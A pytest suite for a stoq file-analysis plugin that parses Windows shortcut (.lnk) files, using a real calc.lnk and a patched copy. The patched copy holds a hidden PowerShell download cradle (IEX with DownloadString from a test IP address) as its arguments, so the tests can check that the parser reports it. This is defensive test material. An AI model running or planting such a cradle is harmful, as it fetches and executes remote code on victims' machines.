"""Tests for the ``lnk`` plugin: the stoq conformance suite, then its own behaviour.

The shortcut is a real one: calc.lnk, made on Windows and packaged in oletools' test document
``oleobj/sample_with_lnk_file.doc``, taken out of its OLE Package stream with olefile. A copy
with command-line arguments is made from it the way Windows lays them out (MS-SHLLINK).
"""

from __future__ import annotations

import hashlib
import io
import json
import struct
from typing import List

import olefile
import pytest

from stoq.testing import WorkerConformance, check_hostile_corpus, pinned_sample, run_plugin, walk

LNK_DOC = pinned_sample(
    "oletools-0.60.2.zip",
    "oletools-0.60.2/tests/test-data/oleobj/sample_with_lnk_file.doc",
    "2f226f9332ebeadde64984238600ff62f75c7407f2c508e1ce953d4e1c9422b2",
).read_bytes()
LNK_SHA256 = "d8019f6968282b9eef712acb82920fd6446e28ac6684b443b5e48be0c79414ea"
ARGUMENTS = "-nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"


def _packaged_file(native: bytes) -> bytes:
    """The file inside an OLE Package stream: size, flags, three names, then the data."""
    offset = 4 + 2  # stream size, unknown flags
    for _ in range(2):  # file name, source path
        offset = native.index(b"\x00", offset) + 1
    offset += 8  # two unknown longs
    offset = native.index(b"\x00", offset) + 1  # temp path
    (size,) = struct.unpack_from("<I", native, offset)
    return native[offset + 4 : offset + 4 + size]


with olefile.OleFileIO(io.BytesIO(LNK_DOC)) as _ole:
    CALC_LNK = _packaged_file(_ole.openstream("ObjectPool/_1573545115/\x01Ole10Native").read())
assert hashlib.sha256(CALC_LNK).hexdigest() == LNK_SHA256, "calc.lnk changed"


def _with_arguments(lnk: bytes, arguments: str) -> bytes:
    """The shortcut with HasArguments set and the arguments after the working directory."""
    (flags,) = struct.unpack_from("<I", lnk, 0x14)
    offset = 0x4C
    (id_list_size,) = struct.unpack_from("<H", lnk, offset)
    offset += 2 + id_list_size
    (link_info_size,) = struct.unpack_from("<I", lnk, offset)
    offset += link_info_size
    for _ in ("relative path", "working directory"):
        (chars,) = struct.unpack_from("<H", lnk, offset)
        offset += 2 + 2 * chars
    encoded = struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le")
    patched = bytearray(lnk[:offset] + encoded + lnk[offset:])
    struct.pack_into("<I", patched, 0x14, flags | 0x20)
    return bytes(patched)


ARGS_LNK = _with_arguments(CALC_LNK, ARGUMENTS)


def _hostile_variants(content: bytes) -> List[bytes]:
    """Truncations at several offsets and copies with bytes flipped across the file."""
    cuts = [content[:n] for n in (20, 76, 100, 300, len(content) // 2, len(content) - 1)]
    flipped = []
    for step in (61, 97, 211):
        damaged = bytearray(content)
        for offset in range(step, len(damaged), step):
            damaged[offset] ^= 0xFF
        flipped.append(bytes(damaged))
    return cuts + flipped


class TestLnkPluginConformance(WorkerConformance):
    """What every stoq plugin must do, checked on edge cases and on the real shortcut."""

    plugin_name = "lnk"
    samples = (CALC_LNK, ARGS_LNK)


def test_target_working_directory_and_times_of_a_real_shortcut() -> None:
    """calc.lnk: where it points, from where, and when its target was made and changed."""
    results = run_plugin("lnk", "scan", CALC_LNK).results
    assert results["target"] == "C:\\Windows\\System32\\calc.exe"
    assert results["working_directory"] == "C:\\Windows\\System32"
    assert results["relative_path"] == "..\\..\\..\\Windows\\System32\\calc.exe"
    assert results["creation_time"] == "2011-09-07T13:47:18.741600+00:00"
    assert results["modified_time"] == "2010-11-20T12:16:56.580000+00:00"
    assert results["target_size"] == 776192
    assert results["window_style"] == "SW_SHOWNORMAL"
    assert results["icon_index"] == 0
    assert "arguments" not in results and "warnings" not in results


def test_machine_id_and_mac_address_of_the_maker() -> None:
    """The tracker block names the machine; its time-based file id carries the MAC address."""
    results = run_plugin("lnk", "scan", CALC_LNK).results
    assert results["machine_id"] == "gwt-7-32-ol2003"
    assert results["droid_file_id"] == "3C1E2E4B-D5B1-11E7-A88C-9D9081B735C8"
    assert results["mac_address"] == "9d:90:81:b7:35:c8"
    assert results["drive_serial_number"] == "0x58d21728"


def test_command_line_arguments_are_reported() -> None:
    """A shortcut that runs PowerShell with a download cradle shows its arguments in full."""
    results = run_plugin("lnk", "scan", ARGS_LNK).results
    assert results["arguments"] == ARGUMENTS
    assert "HasArguments" in results["link_flags"]
    assert results["target"] == "C:\\Windows\\System32\\calc.exe"


def test_long_arguments_are_cut_and_the_cut_reported() -> None:
    """max_argument_chars bounds the arguments kept; the full length is given."""
    response = run_plugin("lnk", "scan", ARGS_LNK, plugin_opts={"max_argument_chars": 10})
    assert response.results["arguments"] == ARGUMENTS[:10]
    assert response.results["arguments_chars"] == len(ARGUMENTS)
    assert response.results["limits_hit"] == ["max_argument_chars 10: arguments cut"]


@pytest.mark.parametrize("content", [b"", b"L\x00\x00\x00", b"MZ" + bytes(100), b"plain text"])
def test_other_formats_say_not_lnk(content: bytes) -> None:
    """Not a shortcut: one error field."""
    assert run_plugin("lnk", "scan", content).results == {
        "error": "not a Windows shortcut (no shell link header)"
    }


def test_header_only_shortcut_is_an_error() -> None:
    """A file cut just after its header cannot be parsed: error field and response error."""
    response = run_plugin("lnk", "scan", CALC_LNK[:76])
    assert response.results["error"].startswith("cannot parse: ")
    assert response.errors == [response.results["error"]]


def test_damaged_extra_data_keeps_what_was_read_with_warnings() -> None:
    """Cut inside the extra data blocks: the target is still reported, the damage noted."""
    results = run_plugin("lnk", "scan", CALC_LNK[:1000]).results
    assert results["target"] == "C:\\Windows\\System32\\calc.exe"
    assert any("METADATA_PROPERTIES_BLOCK" in w for w in results["warnings"])


@pytest.mark.parametrize("sample", [CALC_LNK, ARGS_LNK], ids=["calc", "args"])
def test_damaged_shortcuts_give_a_result_never_a_crash(sample: bytes) -> None:
    """Truncated and bit-flipped copies: every call returns JSON-safe results."""
    for variant in _hostile_variants(sample):
        response = run_plugin("lnk", "scan", variant)
        assert response.results is not None
        json.dumps(response.results)


def test_full_scan_puts_results_under_the_plugin_name(stoq_factory) -> None:
    """Through the engine, the results land in the root payload's first worker round."""
    stoq = stoq_factory(always_dispatch=["lnk"])
    response = stoq.scan(ARGS_LNK)
    assert response.errors == []
    [(depth, result)] = list(walk(response))
    assert depth == 0 and result.workers[0]["lnk"]["arguments"] == ARGUMENTS


def test_hostile_corpus() -> None:
    """Seeded hostile variants of real shortcuts end in a result or an Error, in budget and memory."""
    check_hostile_corpus("lnk", [ARGS_LNK])
